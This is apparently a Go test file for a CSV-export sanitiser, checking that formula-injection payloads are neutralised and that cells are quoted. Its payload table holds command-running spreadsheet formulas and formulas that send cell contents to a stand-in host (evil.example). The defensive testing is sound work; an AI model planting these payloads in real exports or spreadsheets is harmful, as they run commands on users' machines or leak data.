package domain

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"
)

// owaspPayloads is a representative list of CSV-injection payloads (OWASP's
// page and its usual companions), each with the cell CSVCell must write.
var owaspPayloads = []struct{ in, want string }{
	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{`=1+1`, `'=1+1`},
	{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
	{`+1+1`, `'+1+1`},
	{`-1+1`, `'-1+1`},
	{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
	{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
	{`=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")`, `'=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")`},
	{"\t=1+1", "'\t'=1+1"},
	{"\r=1+1", "'\r'=1+1"},
	{"\n=1+1", "'\n'=1+1"},
	{`ok;=1+1`, `ok;'=1+1`},
	{`ok,=1+1`, `ok,'=1+1`},
	{"ok\t=1+1", "ok\t'=1+1"},
	{"ok\n@SUM(1)", "ok\n'@SUM(1)"},
	{`ok; =1+1`, `ok;' =1+1`},
	{` =1+1`, `' =1+1`},
	{`%0A=1+1`, `%0A'=1+1`},
	{`%0a-3+3+cmd|' /C calc'!D2`, `%0a'-3+3+cmd|' /C calc'!D2`},
	{`x%0D+1`, `x%0D'+1`},
	{`＝1+1`, `'＝1+1`},
	{`＋1+1`, `'＋1+1`},
	{`－1+1`, `'－1+1`},
	{`＠SUM(1+1)`, `'＠SUM(1+1)`},
	{`a;b,＝1`, `a;b,'＝1`},
	{`=1;=2,+3`, `'=1;'=2,'+3`},
	// Harmless cells are left alone.
	{``, ``},
	{`plain`, `plain`},
	{`a=b`, `a=b`},
	{`1+1`, `1+1`},
	{`Solar Owls, Inc.`, `Solar Owls, Inc.`},
	{`100%`, `100%`},
	{`%41=1`, `%41=1`},
	{`e-mail`, `e-mail`},
	{`naïve; café`, `naïve; café`},
}

func TestCSVCellNeutralisesOWASPPayloads(t *testing.T) {
	for _, tc := range owaspPayloads {
		got := CSVCell(tc.in)
		if got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if reason := formulaSegment(got); reason != "" {
			t.Errorf("CSVCell(%q) = %q still has %s", tc.in, got, reason)
		}
		if strings.ReplaceAll(got, "'", "") != strings.ReplaceAll(tc.in, "'", "") {
			t.Errorf("CSVCell(%q) = %q changed more than quotes", tc.in, got)
		}
	}
}

// formulaSegment splits s the way a spreadsheet might (at every separator,
// decoded or not) and reports a piece that would start a formula.
func formulaSegment(s string) string {
	decoded := strings.NewReplacer("%09", "\t", "%0A", "\n", "%0a", "\n", "%0D", "\r", "%0d", "\r").Replace(s)
	pieces := strings.FieldsFunc(decoded, func(r rune) bool { return strings.ContainsRune(";,\t\r\n", r) })
	if len(s) > 0 && strings.ContainsRune("\t\r\n", rune(s[0])) {
		return "a leading control character"
	}
	for _, p := range pieces {
		p = strings.TrimLeft(p, " ")
		if r, _ := utf8.DecodeRuneInString(p); p != "" && strings.ContainsRune("=+-@＝＋－＠", r) {
			return "the formula " + p
		}
	}
	return ""
}

func TestSpreadsheetCSVQuotesEveryCell(t *testing.T) {
	rows := [][]string{
		{"id", "name", "note"},
		{"1", `Say "hi"`, "two\nlines"},
		{"", "plain", "a,b;c"},
	}
	var buf bytes.Buffer
	w := newSpreadsheetCSV(&buf)
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	want := "\"id\",\"name\",\"note\"\n\"1\",\"Say \"\"hi\"\"\",\"two\nlines\"\n\"\",\"plain\",\"a,b;c\"\n"
	if buf.String() != want {
		t.Fatalf("wrote %q, want %q", buf.String(), want)
	}
	back, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i := range rows {
		if strings.Join(back[i], "|") != strings.Join(rows[i], "|") {
			t.Fatalf("row %d read back as %q", i, back[i])
		}
	}
}
